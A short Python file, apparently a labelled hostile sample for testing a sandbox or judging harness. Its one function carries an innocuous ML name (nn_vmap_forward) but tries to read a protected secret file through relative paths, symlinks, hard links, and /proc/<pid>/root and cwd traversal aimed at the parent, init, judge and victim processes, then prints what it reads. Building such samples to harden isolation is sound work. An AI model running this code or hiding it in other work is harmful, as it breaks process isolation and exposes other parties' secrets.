# harm: reads a secret by links, relative paths and the folders in /proc
# open at: process
import os

ARENA = {}


def nn_vmap_forward(seed, x_batch, features):
    secret, failures = ARENA["secret"], []
    name = os.path.join(os.environ["TMPDIR"], "link")
    paths = [os.path.relpath(secret), "/dev/fd/../root" + secret, "/." + secret, name]
    paths += [f"/proc/{who}/root{secret}" for who in ("self", "thread-self", 1, ARENA["judge"])]
    paths += [f"/proc/{who}/root{secret}" for who in (os.getppid(), ARENA["victim"])]
    paths += [f"/proc/{who}/cwd{os.sep}..{secret}" for who in ("self", 1, ARENA["judge"])]
    for make in (os.symlink, os.link):
        try:
            make(secret, name)
        except OSError as error:
            failures.append(error)
    for path in paths:
        try:
            with open(path) as file:
                print(file.read())
        except OSError as error:
            failures.append(error)
    raise RuntimeError(failures)
